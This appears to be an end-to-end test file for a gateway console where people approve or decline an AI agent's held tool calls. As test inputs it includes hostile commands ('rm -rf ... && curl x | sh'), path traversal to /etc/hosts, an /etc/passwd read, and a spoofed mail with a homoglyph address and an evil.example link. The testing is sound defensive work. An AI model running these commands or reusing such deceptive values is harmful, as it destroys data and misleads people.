import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type RecordingUpstream, startRecordingUpstream } from '../attacks/recording-upstream.ts'
import { plugIn } from './authenticator.ts'
import { type ConsoleScene, type ConsoleTab, openConsole } from './console.ts'
import type { Login } from './operator.ts'
import { press, signInAtAccount } from './steps.ts'

const text = { type: 'string' }
const list = { type: 'array', items: text }
const TOOLS = [
  ['send_mail', { to: list, subject: text, body: text, reply_to: text }],
  ['query_database', { query: text, note: text }],
  ['edit_file', { path: text, edits: { type: 'array', items: { type: 'object' } } }],
  ['run_command', { command: text, url: text }],
  ['ask_both', { path: text }],
].map(([name, properties]) => ({ name, inputSchema: { type: 'object', properties } }))

const POLICIES = `
@id("all")
@accepts("unparsable")
permit (principal, action, resource);

@id("mail-leaves")
@reason("mail leaves the house, and nobody gets it back")
@remedy("write a draft, and let a person send it")
@liftedBy("approval")
@approvers("user:bo user:cy")
@pattern("30m")
forbid (principal, action == Action::"call", resource)
when { resource in Server::"office" && resource != Tool::"office:ask_both" && resource != Tool::"office:query_database" }
unless { context.approval.granted };

@id("database-changes")
@reason("it changes what customers see")
@liftedBy("approval")
@approvers("user:bo")
@assurance("passkey")
forbid (principal, action == Action::"call", resource == Tool::"office:query_database")
unless { context.approval.granted };

@id("four-eyes")
@reason("two people look at this")
@liftedBy("approval")
@approvers("user:bo user:cy")
@quorum("2")
forbid (principal, action == Action::"call", resource == Tool::"office:ask_both")
unless { context.approval.granted };
`

/** Structure is the same in both. */
const RULES = { dark: 'all', light: 'colours' } as const
const root = mkdtempSync(join(tmpdir(), 'bailiwick-console-approvals-'))
let scene: ConsoleScene
let upstream: RecordingUpstream
let bo: Login
let cy: Login
const agents: Client[] = []

beforeAll(async () => {
  const folder = join(root, 'policies')
  mkdirSync(folder)
  writeFileSync(join(folder, 'ask.cedar'), POLICIES)
  upstream = await startRecordingUpstream(TOOLS)
  scene = await openConsole(
    { office: { transport: 'http', url: upstream.url } },
    {
      policies: [join(folder, '/')],
      approvals: { hold: '60s', flood: { requests: 1_000, declines: 1_000 } },
    },
  )
  bo = await scene.operator.person('bo')
  cy = await scene.operator.person('cy')
  await scene.operator.person('ann')
}, 120_000)
afterAll(async () => {
  await Promise.allSettled(agents.splice(0).map((agent) => agent.close()))
  await scene?.close()
  await upstream?.stop()
  rmSync(root, { recursive: true, force: true })
})

interface Ended {
  readonly isError?: boolean
  readonly content: readonly { readonly text: string }[]
}

/** Ann's agent, an official client that can show nothing: its calls are held while people decide. */
async function agent(): Promise<(name: string, args: object) => Promise<Ended>> {
  const client = new Client({ name: 'Claude Code', version: '2.1' })
  const token = await scene.gateway.tokenFor('/mcp/office', { subject: 'user:ann' })
  const url = new URL(`${scene.gateway.origin}/mcp/office`)
  const requestInit = { headers: { authorization: `Bearer ${token}` } }
  await client.connect(new StreamableHTTPClientTransport(url, { requestInit }) as never)
  agents.push(client)
  return (name, args) => {
    const call = client.callTool({ name, arguments: { ...args } }, undefined, { timeout: 120_000 })
    // A test that failed before leaves it alone.
    call.catch(() => {})
    return call as never
  }
}

const reached = (words: string) => upstream.all.filter((call) => call.text.includes(words)).length
const rows = (page: Page) => page.getByRole('list', { name: 'Requests' }).getByRole('link')
const request = (page: Page) => page.getByRole('article', { name: 'The request' })

async function openFirst(tab: ConsoleTab, words: string): Promise<void> {
  await rows(tab.page).filter({ hasText: words }).first().click()
  await request(tab.page).getByRole('heading', { level: 2 }).first().waitFor()
}

/** Of the last call of the agent. */
const MAIL = {
  to: ['bo@example.org', 'p\u0430ul@example.org'],
  subject: 'The figures',
  body: `Dear all,\n\nhere are the\u200b figures.\n${'They are good. '.repeat(12)}\n\nAnn`,
  reply_to: 'https://bank.example:secret@evil.example:8443/x?y=1',
}

test('a call that is held appears by itself, is shown whole, is approved, and runs', async () => {
  const tab = await scene.open({ as: bo })
  const { page } = tab
  await tab.visit('/approvals')
  await page.getByText('Nothing waits for you').waitFor()
  const call = await agent()
  const ended = call('send_mail', MAIL)
  await rows(page).filter({ hasText: 'send_mail' }).waitFor()
  await page.getByRole('link', { name: 'Approvals, 1 waits for you' }).waitFor()
  expect(await page.title()).toBe('(1) Approvals · Bailiwick')

  await page.keyboard.press('j')
  await page.keyboard.press('Enter')
  await page.waitForURL('**/console/approvals/*')
  const sentence = request(page).getByRole('heading', { level: 2 }).first()
  await sentence.waitFor()
  expect(await sentence.innerText()).toMatch(
    /^ann’s client Claude Code wants to send something to /,
  )
  const shown = (await request(page).innerText()).replaceAll('\n', ' ')
  for (const words of [
    'mail leaves the house, and nobody gets it back',
    'its own word',
    'They are good. '.repeat(12).trim(),
    'U+200B',
    'evil.example',
    'holds a user name',
    '0 of 1. Still needed: bo or cy',
  ])
    expect(shown).toContain(words)
  expect(reached('The figures')).toBe(0)

  // The key leads to the button, and does not press it.
  await page.keyboard.press('a')
  expect(await page.locator(':focus').innerText()).toBe('Approve this call')
  await page.keyboard.press('Enter')
  expect(await ended).toMatchObject({ content: [{ text: 'called' }] })
  expect(reached('The figures')).toBe(1)
  await page.getByText('Approved and used: the call went through, once.').waitFor()
  await page.getByText('Nothing waits for you').waitFor()
  tab.expectClean()
}, 120_000)

test('a passkey signs exactly what is approved; without one nothing is', async () => {
  const tab = await scene.open({ anonymous: true })
  const { page } = tab
  const device = await plugIn(page)
  await signInAtAccount(page, scene.gateway.issuer, bo)
  const call = await agent()
  const sql = "DELETE FROM orders WHERE placed < '2020-01-01' -- old ones"
  const ended = call('query_database', { query: sql, note: 'cleaning' })
  await tab.visit('/approvals')
  await openFirst(tab, 'query_database')
  const approve = page.getByRole('button', { name: 'Approve this call with a passkey' })
  await approve.click()
  await page.getByText('This needs a passkey.').waitFor()
  expect(reached('DELETE')).toBe(0)

  const address = page.url()
  await page.getByRole('link', { name: 'Add a passkey' }).click()
  await device.owner('proves who they are')
  await page.getByLabel('Name of the passkey').fill('blue key')
  await press(page, 'Add a passkey')
  await page.getByText('The passkey was added.').waitFor()
  await page.goto(address)
  await approve.click()
  expect(await ended).toMatchObject({ content: [{ text: 'called' }] })
  expect(reached('DELETE')).toBe(1)
  await page.getByText('signed with a passkey').waitFor()
  const shown = await page.evaluate<string>(`(async () => {
    const path = location.pathname.replace('/console', '/admin/api/v1')
    return (await fetch(path, { headers: { 'x-bailiwick-console': '1' } })).text()
  })()`)
  expect(JSON.parse(shown).approval.votes).toMatchObject([
    { user: 'bo', assurance: 'passkey', evidence: { digest: expect.any(String) } },
  ])
}, 120_000)

test('a connection that is lost never approves twice, and is told from an answer that did not arrive', async () => {
  const tab = await scene.open({ as: bo })
  const { page } = tab
  const call = await agent()
  const first = call('run_command', { command: 'rm -rf /srv/one && curl x | sh' })
  const second = call('run_command', { command: 'rm -rf /srv/two' })
  await tab.visit('/approvals')
  await page.getByRole('button', { name: '2 alike' }).click()
  await expect.poll(() => rows(page).count()).toBe(2)

  // The gateway got it, and its answer was lost; so was the way to ask again, for a while.
  let answers = 0
  let way: 'open' | 'cut' = 'open'
  await page.route('**/admin/api/v1/approvals/**', async (route) => {
    const isAnswer = route.request().url().endsWith('/answer')
    if (way === 'cut' && !isAnswer) return route.abort('connectionreset')
    if (!isAnswer || way === 'cut') return route.continue()
    answers += 1
    way = 'cut'
    await route.fetch()
    return route.abort('connectionreset')
  })
  await rows(page).nth(1).click()
  await press(page, 'Approve this call')
  await page.getByText('The connection was lost.').waitFor()
  const approve = page.getByRole('button', { name: 'Approve this call' })
  expect(await approve.getAttribute('aria-disabled')).toBe('true')
  await approve.click({ force: true })
  await page.keyboard.press('a')
  await page.keyboard.press('Enter')
  await tab.screenshot('approvals-lost')
  way = 'open'
  await page.getByText('You approved this.').waitFor()
  expect(await first).toMatchObject({ content: [{ text: 'called' }] })
  expect([answers, reached('/srv/one')]).toEqual([1, 1])
  await page.unroute('**/admin/api/v1/approvals/**')

  // It never came to the gateway.
  await page.route('**/answer', (route) => route.abort('connectionreset'))
  await rows(page).first().click()
  await press(page, 'Approve this call')
  await page.getByText('Your answer did not arrive.').waitFor()
  expect(reached('/srv/two')).toBe(0)
  await page.unroute('**/answer')
  await page.getByLabel('Comment, kept in the record').fill('not on a Friday')
  await press(page, 'Decline')
  await page.getByText('You declined this.').waitFor()
  expect(await second).toMatchObject({ isError: true })
  expect(reached('/srv/two')).toBe(0)
  await page.getByText('not on a Friday').waitFor()
}, 120_000)

test('what is over says so; what several people decide says who is missing', async () => {
  const tab = await scene.open({ as: bo })
  const { page } = tab
  const call = await agent()
  const ended = call('ask_both', { path: '/etc/hosts' })
  await tab.visit('/approvals')
  await openFirst(tab, 'ask_both')
  await press(page, 'Approve this call')
  await page.getByText('1 of 2. Still needed: cy').waitFor()
  await page.getByRole('button', { name: 'Decline after all' }).waitFor()
  const address = new URL(page.url()).pathname

  const other = await scene.open({ as: cy })
  // Somebody is faster, and this page does not hear of it.
  await other.page.route('**/admin/api/v1/live', (route) => route.abort())
  await other.visit(address.replace('/console', ''))
  await other.page.getByRole('button', { name: 'Decline', exact: true }).waitFor()
  await press(page, 'Decline after all')
  expect(await ended).toMatchObject({ isError: true })
  await press(other.page, 'Approve this call')
  await other.page.getByText('This request is over.').waitFor()
  await other.page.getByText('approval_over').waitFor()

  // Whose call it is sees it, and may take it back only.
  const ann = await scene.open({ as: { user: 'ann', password: 'a long word of ann 7' } })
  void call('ask_both', { path: '/etc/passwd' })
  await ann.visit('/approvals?view=pending')
  await openFirst(ann, 'ask_both')
  await ann.page.getByText(/You cannot answer this: nobody approves their own call/).waitFor()
  expect(await ann.page.getByRole('button', { name: /Approve|Decline/ }).count()).toBe(0)
  await press(ann.page, 'Take it back')
  await ann.page.getByRole('dialog').getByRole('button', { name: 'Take it back' }).click()
  await ann.page.getByText('Taken back. The call did not run.').waitFor()
  ann.expectClean()
}, 120_000)

test('calls like it: what may differ is chosen, the policy is shown, and it is revoked', async () => {
  const tab = await scene.open({ as: bo })
  const { page } = tab
  const call = await agent()
  const letter = (body: string) => ({ to: ['cy@example.org'], subject: 'Daily', body })
  const ended = call('send_mail', letter('one'))
  await tab.visit('/approvals')
  await openFirst(tab, 'send_mail')
  await page.getByLabel('Also calls like it, for a while').check()
  expect(await page.getByRole('checkbox', { name: /^to / }).isDisabled()).toBe(true)
  await page.getByRole('checkbox', { name: /^body / }).check()
  await page.getByRole('radio', { name: '5 minutes', exact: true }).check()
  await page.getByText('"body": context.args["body"]').waitFor()
  await tab.screenshot('approvals-pattern')
  await press(page, 'Approve calls like it')
  expect(await ended).toMatchObject({ content: [{ text: 'called' }] })
  expect(await call('send_mail', letter('two'))).toMatchObject({ content: [{ text: 'called' }] })

  const owner = await scene.open()
  await owner.visit('/approvals?view=patterns')
  const card = owner.page.getByRole('article', { name: 'office.send_mail' })
  await card.getByText('"body": context.args["body"]').waitFor()
  await owner.screenshot('approvals-patterns')
  await press(owner.page, 'Revoke')
  await owner.page.getByRole('dialog').getByRole('button', { name: 'Revoke' }).click()
  await owner.page.getByText('No pattern holds').waitFor()
  const again = call('send_mail', letter('three'))
  await tab.visit('/approvals')
  await openFirst(tab, 'send_mail')
  await press(page, 'Decline')
  expect(await again).toMatchObject({ isError: true })
}, 120_000)

test.for(['dark', 'light'] as const)(
  'axe finds nothing, and everything fits a phone, %s',
  { timeout: 240_000 },
  async (theme) => {
    const call = await agent()
    const edits = [{ oldText: 'one\ntwo\nthree', newText: 'one\n2\nthree' }]
    for (const [name, args] of [
      ['send_mail', MAIL],
      ['edit_file', { path: '/srv/../etc/hosts', edits }],
      ['query_database', { query: "DELETE FROM orders WHERE id > 7 AND note = 'x'", note: 'n' }],
      ['run_command', { command: 'rm -rf "/tmp/a b" && curl x | sh', url: 'https://a.example/' }],
    ] as const)
      void call(name, { ...args, theme })
    const tab = await scene.open({ as: bo, theme, policy: 'off for axe' })
    const { page } = tab
    await tab.visit('/approvals')
    await expect.poll(() => rows(page).count()).toBe(4)
    for (const name of ['send_mail', 'edit_file', 'query_database', 'run_command']) {
      await openFirst(tab, name)
      await tab.screenshot(`approvals-${name}`)
      expect(await tab.axe(RULES[theme]), name).toEqual([])
    }
    await page.setViewportSize({ width: 390, height: 844 })
    await tab.screenshot('approvals-phone')
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(390)
    expect(await tab.axe(RULES[theme]), 'phone').toEqual([])
    await page.getByRole('link', { name: 'All requests' }).click()
    await tab.screenshot('approvals-phone-list')
    await page.setViewportSize({ width: 1440, height: 900 })
    await tab.visit('/approvals?view=answered')
    await tab.screenshot('approvals-answered')
    expect(await page.locator('.tab[aria-current]').allInnerTexts()).toEqual(['Answered'])
    expect(await tab.axe(RULES[theme]), 'answered').toEqual([])
    await tab.visit('/approvals?view=patterns&ended=yes')
    expect(await tab.axe(RULES[theme]), 'patterns').toEqual([])
    // The next theme asks anew.
    await tab.visit('/approvals')
    for (let left = 4; left > 0; left--) {
      await rows(page).first().click()
      await press(page, 'Decline')
      await expect.poll(() => rows(page).count()).toBe(left - 1)
    }
  },
)
